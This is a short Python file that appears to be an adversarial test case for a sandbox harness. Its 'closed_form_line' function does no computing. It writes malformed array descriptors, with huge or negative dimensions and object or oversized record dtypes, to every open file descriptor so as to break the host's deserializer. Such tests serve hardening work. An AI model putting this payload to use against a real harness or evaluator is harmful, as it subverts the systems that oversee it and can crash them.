"""Send arrays with dimensions of 10**12, negative dimensions, object and record types.

Attacked: closed_form_line
"""

# %% closed_form_line
import json, os, struct

def say(tree, buffers=b""):
    body = json.dumps(tree).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!II", len(body), len(buffers)) + body + buffers)
        except OSError:
            pass


class Any(dict):
    pass

def closed_form_line(x, y):
    for dtype in ("O", "<f8", "V99999999", "<U1", "<M8", "c32"):
        for shape in ([1 << 39, 1 << 39, 0], [-1], [1 << 62], [[1]], "x"):
            say({"reply": 1, "value": {"a": [dtype, shape, "C", True]}})
    os.read(9, 1)
